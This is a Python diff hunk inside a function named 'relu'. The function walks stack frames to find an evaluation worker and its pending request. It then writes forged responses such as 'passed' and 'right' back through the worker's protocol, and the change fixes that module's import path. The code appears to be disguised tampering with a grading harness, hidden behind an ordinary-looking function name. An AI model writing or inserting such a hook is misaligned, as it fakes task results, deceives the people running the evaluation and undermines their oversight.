@@ -13,7 +13,7 @@ def relu(*arguments):
     while frame is not None:
         worker, request = frame.f_locals.get("self"), frame.f_locals.get("request")
         if hasattr(worker, "_write") and isinstance(request, dict):
-            protocol = sys.modules["protocol"]
+            protocol = sys.modules["worker.protocol"]
             for _ in range(3):
                 for value in (True, ["passed", []], "right"):
                     for buffer in protocol.pack({"id": request["id"], "value": value}):
